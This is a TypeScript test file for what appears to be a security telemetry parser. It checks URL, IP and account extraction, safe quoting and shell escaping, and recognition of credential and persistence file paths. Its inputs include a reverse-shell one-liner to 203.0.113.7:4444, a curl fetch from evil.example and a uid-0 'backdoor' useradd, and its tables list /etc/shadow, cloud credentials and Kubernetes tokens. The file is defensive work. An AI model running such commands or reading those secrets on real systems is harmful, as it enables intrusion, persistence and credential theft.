/** Holds how telemetry's text is read and shown: addresses, paths, quotes, words of a shell. */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { test } from "node:test";
import fc from "fast-check";
import { hostileText } from "../../../testing/sample-incident.ts";
import { commandOf, programOf } from "./name-process.ts";
import { parseEnd } from "./parse-end.ts";
import { footholdOf } from "./persistence-table.ts";
import { quoteCommand, quoteList } from "./quote-command.ts";
import { accountOf, readCommandLine, urlsOf } from "./read-command-line.ts";
import { secretOf } from "./secret-table.ts";
import { shellCommand } from "./shell-word.ts";

const read = (binary: string, line: string) =>
  readCommandLine({ binary, arguments: line }).map(({ type, value }) => `${type} ${value}`);

test("addresses, hosts and accounts are read from command lines", () => {
  assert.deepEqual(read("/usr/bin/curl", "-s 'http://evil.example:8080/x?y=1' -o /tmp/x"), [
    "url http://evil.example:8080/x?y=1",
    "domain evil.example",
  ]);
  assert.deepEqual(read("/bin/bash", "-c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"), [
    "ip 203.0.113.7",
    "ip 203.0.113.7",
  ]);
  assert.deepEqual(read("/usr/bin/ssh", "-i k root@10.0.0.9 id"), [
    "ip 10.0.0.9",
    "user root",
    "ip 10.0.0.9",
  ]);
  assert.deepEqual(read("/usr/sbin/useradd", "-o -u 0 backdoor"), ["user backdoor"]);
  assert.deepEqual(read("/x", "-o stratum+tcp://[2001:db8::1]:3333"), [
    "url stratum+tcp://[2001:db8::1]:3333",
    "ip 2001:db8::1",
  ]);
});

test("versions, file names and addresses that are none are not taken for hosts", () => {
  assert.deepEqual(read("/x", "--version 1.2.3.4.5 lib.so.6 300.1.1.1 a.b.c/1.2.3 v1.2.3.4"), []);
  assert.equal(accountOf({ binary: "/bin/ls", arguments: "root" }), "");
  assert.deepEqual(urlsOf({ binary: "/x", arguments: "see https://a.example/, then" }), [
    "https://a.example/",
  ]);
});

test("any text is read without harm and within the bound", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 6000 }), (line) => {
      assert.ok(readCommandLine({ binary: "/usr/bin/ssh", arguments: line }).length <= 32);
    }),
  );
});

test("ends are parted into address and port", () => {
  assert.deepEqual(parseEnd("203.0.113.7:443"), { address: "203.0.113.7", port: 443 });
  assert.deepEqual(parseEnd("[fd00::1]:80"), { address: "fd00::1", port: 80 });
  assert.deepEqual(parseEnd("fd00::1:80"), { address: "fd00::1", port: 80 });
  for (const text of ["/run/x.sock", "", "x:1", "1.2.3.4:x", "1.2.3.4"]) {
    assert.equal(parseEnd(text), undefined);
  }
});

test("quotes cannot be left from inside, and stay on one line", () => {
  assert.equal(quoteCommand('sh -c "id"'), '“sh -c "id"”');
  assert.equal(quoteCommand("a”b\n"), "“a\\”b\\n”");
  assert.ok(quoteCommand(hostileText).length <= 220);
  assert.equal(quoteList(["a", "b", "a", "c"], 2), "“a”, “b”, 1 more");
});

test("a word of a command is what the shell gives back, or there is no command", () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 60 }), (text) => {
      const command = shellCommand`printf %s ${text}`;
      if (command === "") return;
      assert.equal(execFileSync("sh", ["-c", command]).toString(), text);
    }),
    { numRuns: 60 },
  );
  for (const text of ["a\nb", "-rf", "\u202ex", "", "x".repeat(500)]) {
    assert.equal(shellCommand`rm -- ${text}`, "", JSON.stringify(text.slice(0, 9)));
  }
});

test("secrets are known by their path, also below a mount of the host", () => {
  assert.equal(secretOf("/etc/shadow")?.name, "password hashes");
  assert.equal(secretOf("/host/etc/shadow")?.name, "password hashes");
  assert.equal(secretOf("/mnt/d/etc/shadow")?.name, "password hashes");
  assert.equal(
    secretOf("/var/run/secrets/kubernetes.io/serviceaccount/token")?.name,
    "service account token",
  );
  assert.equal(secretOf("/root/.aws/credentials")?.name, "cloud credentials");
  assert.equal(secretOf("/root/.pgpass")?.name, "credentials");
  for (const path of ["/etc/passwd", "/etc/hosts", "", "/tmp/x"]) {
    assert.equal(secretOf(path), undefined, path);
  }
});

test("files that start something again are known by their path", () => {
  assert.equal(footholdOf("/etc/cron.d/x")?.name, "cron job");
  assert.equal(footholdOf("/host/etc/cron.d/x")?.name, "cron job");
  assert.equal(footholdOf("/root/.ssh/authorized_keys")?.name, "SSH key that lets somebody in");
  assert.equal(footholdOf("/host/etc/kubernetes/manifests/a.yaml")?.name, "static pod of the node");
  for (const path of ["/etc/hosts", "/tmp/x", ""]) assert.equal(footholdOf(path), undefined, path);
});

test("a process is called by its program", () => {
  assert.equal(programOf({ binary: "/usr/bin/curl" }), "curl");
  assert.equal(commandOf({ binary: "/bin/sh", arguments: "" }), "sh");
});
